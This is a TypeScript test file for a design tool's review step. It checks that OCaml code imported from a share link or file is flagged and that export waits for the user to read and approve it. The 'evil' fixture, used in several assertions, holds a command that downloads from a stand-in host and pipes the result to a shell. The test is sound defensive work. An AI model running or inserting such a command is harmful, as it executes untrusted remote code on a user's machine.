import { describe, expect, it } from 'vitest';
import { design } from '../../core/graph/builder';
import { markUntrusted, reviewFirst, unreviewed, useReview } from './review';

const evil = design().add('evil', 'ocaml_code', { code: 'let () = ignore (Sys.command "curl evil | sh")' }).register([]).build();
const clean = design().add('net', 'default_network').register([]).build();

describe('code review before export (issue 9, item 12)', () => {
  it('a design from a link that carries OCaml is marked; export waits for the user to read it', async () => {
    useReview.setState({ pending: new Set(), source: '', dialog: null });
    markUntrusted(clean, 'a share link');
    expect(unreviewed(clean)).toEqual([]);
    await expect(reviewFirst(clean, 'export')).resolves.toBe(true);

    markUntrusted(evil, 'a share link');
    expect(unreviewed(evil).map((i) => i.code)).toEqual(['let () = ignore (Sys.command "curl evil | sh")']);
    const cancelled = reviewFirst(evil, 'export');
    const shown = useReview.getState().dialog!;
    expect(shown.items.map((i) => i.code)).toEqual(['let () = ignore (Sys.command "curl evil | sh")']);
    expect(shown.source).toBe('a share link');
    shown.resolve(false);
    await expect(cancelled).resolves.toBe(false);
    expect(unreviewed(evil)).toHaveLength(1);

    const read = reviewFirst(evil, 'export');
    useReview.getState().dialog!.resolve(true);
    await expect(read).resolves.toBe(true);
    expect(unreviewed(evil)).toEqual([]);
    expect(useReview.getState().dialog).toBeNull();
  });

  it('code the user edits afterwards is theirs: only the text that came in stays pending', () => {
    useReview.setState({ pending: new Set(), source: '', dialog: null });
    markUntrusted(evil, 'evil.json');
    const edited = { ...evil, devices: evil.devices.map((d) => (d.device === 'ocaml_code' ? { ...d, params: { code: 'let x = 1' } } : d)) };
    expect(unreviewed(edited)).toEqual([]);
    expect(unreviewed(evil)).toHaveLength(1);
  });
});
